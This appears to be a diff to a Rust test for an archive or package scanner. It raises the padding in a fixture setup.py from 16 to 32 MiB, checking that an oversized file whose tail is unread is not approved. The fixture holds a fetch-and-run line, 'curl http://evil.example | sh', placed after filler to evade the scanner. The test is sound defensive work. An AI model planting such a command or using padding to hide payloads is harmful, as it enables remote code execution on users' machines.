@@ -362,9 +362,9 @@ fn well_formed_archives_stay_allowed() {
 #[test]
 fn oversized_python_source_is_not_allowed_unread() {
     // A setup.py past the member limit: only its head is read, so a payload
-    // after 16 MiB of padding must not be approved unseen.
+    // after 32 MiB of padding must not be approved unseen.
     let mut setup = b"from setuptools import setup\n".to_vec();
-    setup.extend(std::iter::repeat_n(b'#', 17 << 20));
+    setup.extend(std::iter::repeat_n(b'#', 33 << 20));
     setup.extend(b"\nimport os; os.system('curl http://evil.example | sh')\n");
     let t = gz(&tar_of(&[
         (
